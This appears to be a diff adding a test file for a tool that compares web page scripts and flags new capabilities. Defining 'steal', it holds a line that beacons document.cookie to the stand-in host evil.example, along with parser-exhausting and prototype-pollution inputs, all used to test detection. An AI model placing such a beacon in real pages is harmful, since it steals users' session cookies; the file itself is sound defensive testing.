@@ -1,0 +1,84 @@
+// Guards that no content, however made, stops a comparison or takes the place of something else in it.
+import { assert, property, string } from 'fast-check'
+import { describe, expect, it } from 'vitest'
+import { compareScripts, learnVolatile, maskedEqual, matchScripts, sketchOf } from '#changes/index.ts'
+import { printOf } from '#changes/scripts/print-of.ts'
+
+const steal = 'navigator.sendBeacon("https://evil.example/c", document.cookie)'
+
+describe('hostile contents', () => {
+  it.each<[string, string]>([
+    ['nested parentheses', '('.repeat(20_000)],
+    ['nested lists that close', `${'['.repeat(20_000)}${']'.repeat(20_000)}`],
+    ['nested JSON', `${'{"a":'.repeat(20_000)}1${'}'.repeat(20_000)}`],
+    ['a long chain of operators', `a${'+a'.repeat(100_000)}`],
+    ['a long chain of texts', `x=""${'+"a"'.repeat(20_000)}`],
+    ['nested functions', 'function f(){'.repeat(20_000)],
+    ['one line of 5 MB', `x="${'a'.repeat(5_000_000)}"`],
+    ['many short statements', 'a.b("c");'.repeat(30_000)],
+    ['quotes that never close', '"\\'.repeat(150_000)],
+    ['backquotes', '`${'.repeat(90_000)],
+    ['slashes', '/'.repeat(300_000)],
+    ['addresses', '//a.b'.repeat(20_000)],
+    ['codes', `x="${'104,'.repeat(20_000)}"`],
+    ['escapes', `x="${'%41'.repeat(20_000)}"`],
+    ['markup', `x="${'<a '.repeat(20_000)}"`],
+    ['null characters', '\0'.repeat(25_000)],
+  ])('of %s are compared', (_, text) => {
+    expect(compareScripts(text, `${text}\n`).similarity).toBeGreaterThan(0.9)
+    expect(compareScripts('x.y()', text).verdict).not.toBeNull()
+    sketchOf(text)
+  })
+
+  it('of any text are compared, as they are and beside a theft', () => {
+    assert(
+      property(string({ unit: 'binary', maxLength: 120 }), string({ unit: 'binary', maxLength: 120 }), (one, other) => {
+        compareScripts(one, other)
+        maskedEqual(one, other, learnVolatile([one, other], printOf(one)))
+      }),
+    )
+  })
+
+  it('whose names are those of every object are only names', () => {
+    const names = ['__proto__', 'constructor', 'hasOwnProperty', 'toString', 'valueOf']
+    const text = names.map((name) => `x["${name}"] = { "${name}": { "${name}": "${name}" } }; var ${name};`).join('\n')
+    expect(compareScripts(text, `${text}\n${steal}`)).toMatchObject({ verdict: 'capability', lines: [{ before: null, after: [6, 6] }] })
+    const json = (word: string) => `{"__proto__": {"polluted": "${word}"}, "constructor": {"prototype": {"polluted": 1}}}`
+    expect(compareScripts(json('one'), json('two')).verdict).toBe('volatile')
+    expect(Object.hasOwn(Object.prototype, 'polluted')).toBe(false)
+  })
+
+  it('of bytes that are no text are compared by what can be read', () => {
+    const broken = new TextDecoder().decode(new Uint8Array([0xff, 0xfe, 0x61, 0x28, 0x29, 0xc3, 0x28]))
+    expect(compareScripts(broken, `${broken};${steal}`).verdict).toBe('capability')
+  })
+
+  it('that stop to parse alarm, and what they hold is still told', () => {
+    const before = 'start();\nrun({ a: 1 });'
+    expect(compareScripts(before, `${before}\n}}} ${steal}`).reasons.map(({ code }) => code)).toEqual(
+      expect.arrayContaining(['unreadable', 'new-host']),
+    )
+  })
+
+  it('put no line or control character into a reason', () => {
+    const { reasons } = compareScripts('f("#email")', 'f("#cc-number\\u202e\\n\\u0007")')
+    expect(reasons.length).toBeGreaterThan(0)
+    expect(reasons.every(({ sentence }) => !/[\p{Cc}\p{Cf}]/u.test(sentence))).toBe(true)
+  })
+})
+
+it('addresses that are none are matched by what else is known', () => {
+  const odd = (url: string, id: string) => ({
+    id,
+    sha256: null,
+    kind: 'external',
+    url,
+    frame: '::',
+    elementId: null,
+    order: 0,
+    sketch: null,
+  })
+  expect(matchScripts([odd('http://[', 'a')], [odd('http://[', 'b')])).toMatchObject([
+    { before: { id: 'a' }, after: { id: 'b' }, by: 'address' },
+  ])
+})
